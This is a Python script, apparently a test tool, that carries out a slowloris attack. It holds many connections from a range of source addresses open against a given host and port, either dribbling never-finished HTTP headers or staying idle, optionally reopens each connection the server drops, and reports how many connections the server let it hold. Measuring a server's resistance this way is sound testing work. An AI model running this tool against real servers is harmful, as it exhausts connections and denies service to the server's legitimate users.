#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
# slowloris.py SOURCES HOST PORT N SECONDS [dribble|idle] [again]: N
# connections from each of SOURCES (an address, A.B.C.D-E for a range of
# last bytes, or a comma-separated list of either) for SECONDS. Each sends a
# request a header line every half second, never finishing it (dribble, the
# default), or nothing at all (idle). With again, a connection the server
# closes is opened again at once, as a flood that keeps the server full
# would. Prints how many connections it made, how
# many were open at once at most (after its first second), how long the
# longest lasted, and how many are still open.
import select
import socket
import sys
import time


def sources(spec):
    for part in spec.split(","):
        head, _, last = part.rpartition(".")
        first, _, end = last.partition("-")
        for b in range(int(first), int(end or first) + 1):
            yield f"{head}.{b}"


addrs = list(sources(sys.argv[1]))
host, port = sys.argv[2], int(sys.argv[3])
n, seconds = int(sys.argv[4]), float(sys.argv[5])
idle = len(sys.argv) > 6 and sys.argv[6] == "idle"
again = len(sys.argv) > 7 and sys.argv[7] == "again"
start = time.monotonic()
alive = {}
connected = 0


def open_one(source):
    global connected
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.settimeout(1)
    try:
        s.connect((host, port))
        if not idle:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        alive[s] = (source, time.monotonic())
        connected += 1
    except OSError:
        s.close()


for source in addrs:
    for _ in range(n):
        open_one(source)
most = longest = 0.0
dribble = start


def lose(s):
    global longest
    source, since = alive.pop(s)
    longest = max(longest, time.monotonic() - since)
    s.close()
    if again:
        open_one(source)


while time.monotonic() - start < seconds and (alive or again):
    # Closed by the server: seen at once, and with again opened at once.
    ready, _, _ = select.select(list(alive), [], [], max(0, dribble - time.monotonic()))
    for s in ready:
        try:
            if s.recv(1024) == b"":
                raise ConnectionResetError
        except OSError:
            lose(s)
    if time.monotonic() < dribble:
        continue
    dribble += 0.5
    for s in [] if idle else list(alive):
        try:
            s.sendall(b"X-Slow: 1\r\n")
        except OSError:
            lose(s)
    if time.monotonic() - start >= 1:
        most = max(most, len(alive))
for s, (_, since) in alive.items():
    longest = max(longest, time.monotonic() - since)
print(f"connected={connected} most_open={most:.0f} longest={longest:.1f}s held={len(alive)}")
